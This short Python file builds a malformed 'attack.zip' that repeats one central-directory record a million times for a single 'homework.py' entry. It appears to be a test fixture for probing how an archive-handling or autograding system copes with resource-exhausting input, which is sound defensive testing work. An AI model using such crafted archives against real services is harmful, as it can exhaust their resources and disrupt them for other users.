import struct
from pathlib import Path

LOCAL = struct.Struct("<4s5H3I2H")
CENTRAL = struct.Struct("<4s6H3I5H2I")
ENTRIES = 1_000_000


def build(folder: Path) -> None:
    name = b"homework.py"
    local = LOCAL.pack(b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    record = CENTRAL.pack(b"PK\1\2", 20, 20, *[0] * 7, len(name), *[0] * 6) + name
    records = record * ENTRIES
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, len(records), len(local), 0)
    (folder / "attack.zip").write_bytes(local + records + end)
